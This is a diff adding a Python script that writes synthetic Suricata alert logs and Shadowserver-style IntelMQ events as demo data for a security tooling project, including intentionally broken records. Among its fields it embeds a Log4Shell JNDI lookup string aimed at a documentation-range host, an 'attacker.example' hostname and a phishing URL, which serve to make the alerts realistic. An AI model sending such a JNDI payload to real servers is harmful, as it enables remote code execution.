@@ -1,0 +1,182 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""Writes the demo data under demo/data/ (committed; rerun only to change it).
+
+The records are synthetic but shaped like real sensor output: Suricata EVE
+lines (alerts with nested alert/flow/http objects, plus dns, flow and stats
+records that are context, not warnings) and IntelMQ events as a feed would
+deliver them. Internal addresses lie in the demo constituency
+(demo/constituency.json: 198.18.0.0/15 and 2001:db8::/32); external ones in
+the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and
+3fff::/20, which no site owns. A few deliberately malformed lines show the
+quarantine at work.
+"""
+import json
+import random
+from datetime import datetime, timedelta, timezone
+
+rng = random.Random(20261127)
+T0 = datetime(2026, 11, 24, 0, 0, 0, tzinfo=timezone.utc)
+
+HOSTS = {
+    "uni-north": ["198.18.%d.%d" % (rng.randrange(0, 128), rng.randrange(1, 255)) for _ in range(30)],
+    "uni-north-cs": ["198.18.10.%d" % rng.randrange(1, 255) for _ in range(8)],
+    "uni-south": ["198.18.%d.%d" % (rng.randrange(128, 256), rng.randrange(1, 255)) for _ in range(20)],
+    "agency": ["198.19.%d.%d" % (rng.randrange(0, 16), rng.randrange(1, 255)) for _ in range(10)],
+    "hospital": ["198.19.%d.%d" % (rng.randrange(64, 80), rng.randrange(1, 255)) for _ in range(6)],
+    "uni-north-v6": ["2001:db8:1%02x::%x" % (rng.randrange(0, 256), rng.randrange(1, 65535)) for _ in range(6)],
+    "uni-north-cs-v6": ["2001:db8:10a::%x" % rng.randrange(1, 65535) for _ in range(3)],
+}
+# uni-north hosts must not fall into the department's /24
+HOSTS["uni-north"] = [h for h in HOSTS["uni-north"] if not h.startswith("198.18.10.")]
+EXTERNAL = (["192.0.2.%d" % i for i in range(1, 255, 7)] + ["198.51.100.%d" % i for i in range(1, 255, 11)]
+            + ["203.0.113.%d" % i for i in range(1, 255, 13)])
+EXTERNAL6 = ["3fff:%x::%x" % (rng.randrange(0, 4096), rng.randrange(1, 65535)) for _ in range(8)]
+
+# (signature, sid, category, severity, dest_port, proto, app_proto, direction)
+# direction "in": external -> internal; "out": internal host -> external
+SIGS = [
+    ("ET SCAN Suspicious inbound to MSSQL port 1433", 2010935, "Potentially Bad Traffic", 2, 1433, "TCP", None, "in"),
+    ("ET SCAN Potential SSH Scan", 2001219, "Attempted Information Leak", 2, 22, "TCP", None, "in"),
+    ("ET SCAN NMAP -sS window 1024", 2009582, "Attempted Information Leak", 2, 443, "TCP", None, "in"),
+    ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", 2034647, "Attempted Administrator Privilege Gain", 1, 80, "TCP", "http", "in"),
+    ("ET WEB_SERVER WebShell Generic - wget http - POST", 2016184, "Web Application Attack", 1, 80, "TCP", "http", "in"),
+    ("ET MALWARE Win32/Emotet CnC Activity (POST) M10", 2035336, "A Network Trojan was detected", 1, 8080, "TCP", "http", "out"),
+    ("ET MALWARE Cobalt Strike Beacon Observed", 2027082, "A Network Trojan was detected", 1, 443, "TCP", "tls", "out"),
+    ("ET POLICY Cryptocurrency Miner Checkin", 2024792, "Crypto Currency Mining Activity Detected", 2, 3333, "TCP", None, "out"),
+    ("ET INFO Observed DNS Query to .onion proxy Domain", 2014939, "Potential Corporate Privacy Violation", 2, 53, "UDP", "dns", "out"),
+    ("ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests IMPL 0x03", 2017919, "Attempted Denial of Service", 2, 123, "UDP", None, "in"),
+    ("GPL ATTACK_RESPONSE id check returned root", 2100498, "Potentially Bad Traffic", 2, 80, "TCP", "http", "out"),
+    ("ET POLICY External IP Lookup api.ipify.org", 2026378, "Device Retrieving External IP Address Detected", 3, 443, "TCP", "tls", "out"),
+]
+
+
+def ts(t):
+    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d" % t.microsecond + "+0000"
+
+
+def internal_host():
+    site = rng.choices(list(HOSTS), weights=[30, 8, 20, 10, 6, 4, 2])[0]
+    return rng.choice(HOSTS[site])
+
+
+def external_host(v6):
+    return rng.choice(EXTERNAL6 if v6 else EXTERNAL)
+
+
+def alert_line(t, flow_id):
+    sig, sid, cat, sev, dport, proto, app, direction = rng.choice(SIGS)
+    inside = internal_host()
+    v6 = ":" in inside
+    outside = external_host(v6)
+    sport = rng.randrange(1024, 65535)
+    if direction == "in":
+        src, dst = outside, inside
+    else:
+        src, dst = inside, outside
+    rec = {
+        "timestamp": ts(t), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": "alert",
+        "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto,
+    }
+    if app:
+        rec["app_proto"] = app
+    rec["alert"] = {
+        "action": "allowed", "gid": 1, "signature_id": sid, "rev": rng.randrange(1, 9),
+        "signature": sig, "category": cat, "severity": sev,
+        "metadata": {"created_at": ["2021_12_10"], "updated_at": ["2024_05_14"],
+                     "signature_severity": ["Major" if sev == 1 else "Minor"]},
+    }
+    if app == "http":
+        rec["http"] = {"hostname": dst if direction == "in" else "cdn-%d.attacker.example" % rng.randrange(9),
+                       "url": "/${jndi:ldap://203.0.113.9:1389/a}" if sid == 2034647 else "/index.php",
+                       "http_user_agent": "Mozilla/5.0 (compatible)", "http_method": "POST" if sid != 2034647 else "GET",
+                       "protocol": "HTTP/1.1", "length": rng.randrange(0, 5000)}
+    rec["flow"] = {"pkts_toserver": rng.randrange(1, 40), "pkts_toclient": rng.randrange(0, 40),
+                   "bytes_toserver": rng.randrange(60, 60000), "bytes_toclient": rng.randrange(0, 90000),
+                   "start": ts(t - timedelta(seconds=rng.randrange(0, 30)))}
+    return rec
+
+
+def context_line(t, flow_id):
+    kind = rng.choice(["flow", "dns", "dns", "tls"])
+    inside = internal_host()
+    rec = {"timestamp": ts(t), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": kind,
+           "src_ip": inside, "src_port": rng.randrange(1024, 65535),
+           "dest_ip": external_host(":" in inside), "dest_port": 53 if kind == "dns" else 443,
+           "proto": "UDP" if kind == "dns" else "TCP"}
+    if kind == "dns":
+        rec["dns"] = {"type": "query", "id": rng.randrange(65535), "rrname": "www.example.net", "rrtype": "A", "tx_id": 0}
+    elif kind == "tls":
+        rec["tls"] = {"subject": "CN=www.example.net", "sni": "www.example.net", "version": "TLS 1.3"}
+    else:
+        rec["flow"] = {"pkts_toserver": 3, "pkts_toclient": 2, "bytes_toserver": 180, "bytes_toclient": 120,
+                       "start": ts(t), "end": ts(t), "age": 0, "state": "closed", "reason": "timeout", "alerted": False}
+    return rec
+
+
+def write_eve(path, n):
+    t = T0
+    lines = []
+    for i in range(n):
+        t += timedelta(milliseconds=rng.randrange(20, 90000))
+        flow_id = rng.randrange(1, 2**62)
+        if i % 500 == 499:
+            lines.append(json.dumps({"timestamp": ts(t), "event_type": "stats",
+                                     "stats": {"uptime": i, "capture": {"kernel_packets": i * 1000, "kernel_drops": 0}}},
+                                    separators=(",", ":")))
+        elif rng.random() < 0.7:
+            lines.append(json.dumps(alert_line(t, flow_id), separators=(",", ":")))
+        else:
+            lines.append(json.dumps(context_line(t, flow_id), separators=(",", ":")))
+    # Deliberately broken records, as a sensor or a disk-full event produces them.
+    lines.insert(700, lines[699][: len(lines[699]) // 2])            # truncated line
+    lines.insert(1400, "Nov 25 03:14:07 sensor1 suricata[812]: [ERRCODE: SC_ERR_PCAP_DISPATCH(20)]")  # not JSON
+    bad = alert_line(t, 1)
+    bad["src_ip"] = "198.18.300.7"                                      # invalid address
+    lines.insert(2100, json.dumps(bad, separators=(",", ":")))
+    with open(path, "w") as f:
+        f.write("\n".join(lines) + "\n")
+
+
+def write_intelmq(path):
+    out = []
+    t = T0 + timedelta(hours=6)
+    feeds = [
+        ("vulnerable-system", "open-memcached", "Shadowserver Accessible Memcached", 11211, "udp", "memcached"),
+        ("ddos-amplifier", "ntp-monitor", "Shadowserver NTP Monitor", 123, "udp", "ntp"),
+        ("vulnerable-system", "open-rdp", "Shadowserver Accessible RDP", 3389, "tcp", "rdp"),
+        ("infected-system", "mirai", "Shadowserver Sinkhole HTTP Events", 23, "tcp", "telnet"),
+        ("potentially-unwanted-accessible", "open-elasticsearch", "Shadowserver Open Elasticsearch", 9200, "tcp", "http"),
+    ]
+    for i in range(240):
+        t += timedelta(seconds=rng.randrange(30, 900))
+        typ, ident, feed, port, transport, app = rng.choice(feeds)
+        host = internal_host()
+        ev = {"__type": "Event", "feed.name": feed, "feed.provider": "Shadowserver",
+              "time.source": t.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
+              "classification.type": typ, "classification.identifier": ident,
+              "source.ip": host, "source.port": port,
+              "protocol.transport": transport, "protocol.application": app}
+        if rng.random() < 0.3:
+            ev["source.reverse_dns"] = "host-%d.%s" % (i, rng.choice(["uni-north.example", "agency.example"]))
+        if typ == "infected-system":
+            ev["malware.name"] = "mirai"
+            ev["destination.ip"] = rng.choice(EXTERNAL)
+            ev["destination.port"] = 80
+        out.append(json.dumps(ev, separators=(", ", ": ")))
+    # Domains and ASNs route too: a phishing site on a hosted domain of a site.
+    out.append(json.dumps({"__type": "Event", "feed.name": "Phishing URL feed", "feed.provider": "Example Phish Team",
+                           "time.source": "2026-11-26T09:12:00+00:00", "classification.type": "phishing",
+                           "source.url": "https://login.agency.example.evil.example/", "source.fqdn": "webmail.hospital.example",
+                           "source.asn": 64499}))
+    out.append(json.dumps({"__type": "Event", "feed.name": "Spamhaus DROP", "feed.provider": "Spamhaus",
+                           "time.source": "2026-11-26T10:00:00+00:00", "classification.type": "blacklist",
+                           "source.asn": 64498}))
+    out.insert(50, '{"__type": "Event", "feed.name": "broken", "source.ip": "198.18.1.1", "source.port": "eighty"}')
+    out.insert(120, '{"__type": "Event", "feed.name": "Shadowserver", "classification.type": "vulnerable-system", "source.ip": "198.18.5.9", "comment": "caf\xe9"}'.replace("\xe9", "\udce9").encode("utf-8", "surrogateescape").decode("latin-1"))
+    with open(path, "w", encoding="latin-1") as f:
+        f.write("\n".join(out) + "\n")
+
+
+write_eve("data/sensor1-eve.json", 3000)
+write_intelmq("data/shadowserver-intelmq.jsonl")
